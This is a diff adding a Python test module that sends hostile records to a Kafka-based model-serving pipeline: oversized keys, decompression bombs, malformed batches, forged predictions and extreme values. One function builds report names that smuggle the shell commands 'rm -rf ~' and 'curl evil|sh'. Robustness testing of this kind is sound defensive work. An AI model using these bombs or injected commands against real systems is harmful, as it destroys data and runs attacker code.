@@ -1,0 +1,169 @@
+"""Attacks of single records: what no client of ours would send, and Kafka takes all the same."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+import numpy as np
+
+from load.hostile import batches
+from load.hostile.attack import Attack
+from load.hostile.setting import HONEST, SLOW, row
+from schemas import topics
+from schemas.codec import MAX_BYTES
+from schemas.records import (
+    Decision,
+    Feedback,
+    ModelOutput,
+    Outcome,
+    Prediction,
+    Query,
+    Report,
+    Status,
+    Tensor,
+)
+from schemas.wire import pack_double, write_int, write_long
+
+if TYPE_CHECKING:
+    from load.hostile.arena import Arena
+
+_MIB = 1 << 20
+_LARGE = 2_050_000  # of 2 MiB that topics used to take
+_CONTAINER_BYTES = 700 * _MIB
+
+
+async def _key(arena: Arena) -> None:
+    for size in (_LARGE, MAX_BYTES):
+        await arena.put(topics.QUERIES, [b"\1"], key=b"k" * size)
+
+
+async def _header(arena: Arena) -> None:
+    for size in (_LARGE + 40_000, MAX_BYTES):
+        await arena.put(topics.FEEDBACK, [b"\1"], headers=[("h", b"x" * size)])
+
+
+async def _headers_of_ours(arena: Arena) -> None:
+    headers = [(f"skysail.error.{name}", b"x" * 200_000) for name in ("cause", "message")]
+    query = arena.codec.encode(Query("headed", HONEST, row(3)))
+    await arena.put(topics.QUERIES, [b"\1", query], headers=headers)
+
+
+async def _key_and_value(arena: Arena) -> None:
+    await arena.put(topics.QUERIES, [b"v" * (MAX_BYTES + 100)] * 3, key=b"k" * 4_000)
+    await arena.put(topics.FEEDBACK, [b"v" * (MAX_BYTES + 100)] * 3, key=b"k" * 4_000, compression="zstd")
+
+
+async def _java_only(arena: Arena) -> None:
+    for topic in (topics.QUERIES, topics.FEEDBACK):
+        for made in (batches.gzip_with_a_tail, batches.lz4_with_a_wrong_checksum):
+            await arena.batch(topic, made(batches.record(b"\1" * 1000)))
+
+
+async def _java_only_stored(arena: Arena) -> None:
+    """The same where the topic keeps what producers send: made by an older version, or by hand."""
+    await arena.set_topic(topics.QUERIES, "compression.type", "producer")
+    await arena.set_topic(topics.FEEDBACK, "compression.type", "producer")
+    await _java_only(arena)
+    await arena.set_topic(topics.QUERIES, "compression.type", "uncompressed")
+    await arena.set_topic(topics.FEEDBACK, "compression.type", "uncompressed")
+
+
+async def _bomb(arena: Arena) -> None:
+    for topic in (topics.QUERIES, topics.FEEDBACK):
+        await arena.batch(topic, batches.zstd(batches.record(bytes(64 * _MIB))))
+
+
+async def _bombs_in_a_container(arena: Arena) -> None:
+    """64 and 700 MiB, on a topic that stores what producers send; selection may take 700 MiB in all."""
+    async with arena.limited("selection", _CONTAINER_BYTES):
+        await arena.set_topic(topics.QUERIES, "compression.type", "producer")
+        await arena.set_topic(topics.QUERIES, "max.message.bytes", str(2 * _MIB))
+        for size in (64, 300, 700):
+            await arena.batch(topics.QUERIES, batches.zstd(batches.record(bytes(size * _MIB))))
+        await arena.set_topic(topics.QUERIES, "compression.type", "uncompressed")
+
+
+async def _quadratic(arena: Arena) -> None:
+    """Eight queries of half a megabyte, every number in a block of its own."""
+    whole = arena.codec.encode(Query("quadratic", HONEST, row(1), features=(0.5,)))
+    block = write_long(1) + pack_double(0.5)
+    value = whole.replace(block, block * ((MAX_BYTES - len(whole)) // len(block)))
+    await arena.put(topics.QUERIES, [value] * 8, compression="zstd")
+
+
+async def _vast_tensor(arena: Arena) -> None:
+    """A shape whose product takes more than 64 bits; 27 bytes as feedback."""
+    shape = write_long(4) + 4 * write_int(2**31 - 1) + b"\0"
+    small = write_long(1) + write_int(1) + b"\0"
+    for topic, record in ((topics.QUERIES, Query("vast", HONEST, row(1))), (topics.FEEDBACK, Feedback("vast", row(1)))):
+        await arena.put(topic, [arena.codec.encode(record).replace(small, shape, 1)] * 3)
+
+
+async def _forged_prediction(arena: Arena) -> None:
+    """An answer that no role gave: outcome OK, and no answer."""
+    decision = Decision((0,), 0, HONEST, "exp3(eta=0.05,gamma=0.05,share=0.0001)", ("right", "wrong"), (0.5, 0.5))
+    output = ModelOutput("right", "1", Outcome.OK, None)
+    forged = [
+        Prediction(f"forged-{n}", HONEST, None, decision, Status.COMPLETE, None, None, 1.0, (output,), 0, 0, 0, 0)
+        for n in range(5)
+    ]
+    await arena.send(topics.PREDICTIONS, forged)
+    await arena.send(topics.FEEDBACK, [Feedback(p.query_id, 1) for p in forged])
+
+
+async def _strange_times(arena: Arena) -> None:
+    """Clocks, objectives and priorities beyond all bounds."""
+    queries = [
+        Query(f"time-{n}", SLOW, row(0), None, sent_us, slo_ms, priority)
+        for n, (sent_us, slo_ms, priority) in enumerate(
+            (sent_us, slo_ms, priority)
+            for sent_us in (0, -(1 << 63), (1 << 63) - 1)
+            for slo_ms in (1e308, -1e308, 5e-324, 0.0)
+            for priority in (-(2**31), 2**31 - 1)
+        )
+    ]
+    await arena.send(topics.QUERIES, queries)
+
+
+async def _strange_keys(arena: Arena) -> None:
+    """Tombstones, keys that are no text, headers without a value."""
+    await arena.put(topics.QUERIES, [None, b"", b"\xff" * 100], key=None)
+    await arena.put(
+        topics.FEEDBACK, [None, b"", b"\xff" * 100], key=b"\xff\xfe", headers=[("h", b""), ("\ud7ff", b"x")]
+    )
+    await arena.put(topics.QUERIES, [arena.codec.encode(Query("strange", HONEST, row(1)))], key=b"\xff\0\xc3")
+
+
+async def _strange_inputs(arena: Arena) -> None:
+    """NaN, infinities, nine axes, no elements, texts: each an answer with its reason."""
+    given = [np.full(1, np.nan, np.float32), np.full(1, np.inf), np.zeros((1,) * 8), np.zeros(0), np.zeros(5, np.uint8)]
+    queries = [Query(f"input-{n}", SLOW, Tensor.of(array)) for n, array in enumerate(given)]
+    await arena.send(topics.QUERIES, [*queries, Query("text", SLOW, "text"), Query("bytes", SLOW, b"\xff")])
+
+
+async def _forged_reports(arena: Arena) -> None:
+    """Five thousand processes that are none, with names that would be a command."""
+    reports = [
+        Report(f"x{n}; rm -rf ~ #", "worker", 1, {f"dead_letters_total{{topic=queries; curl evil|sh #{n}}}": 1.0}, {})
+        for n in range(5_000)
+    ]
+    await arena.put(topics.REPORTS, [arena.codec.encode(report) for report in reports])
+
+
+RECORDS = (
+    Attack("key", "client", "keys of half a megabyte and of two", _key),
+    Attack("header", "teacher", "headers of half a megabyte and of two", _header),
+    Attack("error-headers", "client", "headers with the names of our own", _headers_of_ours),
+    Attack("oversized", "client", "values over the limit, with keys, compressed or not", _key_and_value),
+    Attack("java-only", "client", "batches that only Java can unpack", _java_only),
+    Attack("java-only-stored", "client", "the same on topics that store what comes", _java_only_stored),
+    Attack("bomb", "client", "two records of 64 MiB in 2 KB", _bomb),
+    Attack("bombs-stored", "client", "64 to 700 MiB stored, selection limited to 700", _bombs_in_a_container),
+    Attack("quadratic", "client", "eight queries of 58,000 blocks", _quadratic),
+    Attack("vast-tensor", "client", "shapes of 2^124 elements in 27 bytes", _vast_tensor),
+    Attack("forged-prediction", "client", "answers of nobody: OK, and none", _forged_prediction),
+    Attack("strange-times", "client", "clocks, objectives, priorities beyond bounds", _strange_times),
+    Attack("strange-keys", "client", "tombstones, keys and headers that are none", _strange_keys),
+    Attack("strange-inputs", "client", "inputs that no model takes", _strange_inputs),
+    Attack("forged-reports", "client", "reports of 5,000 processes that are none", _forged_reports),
+)
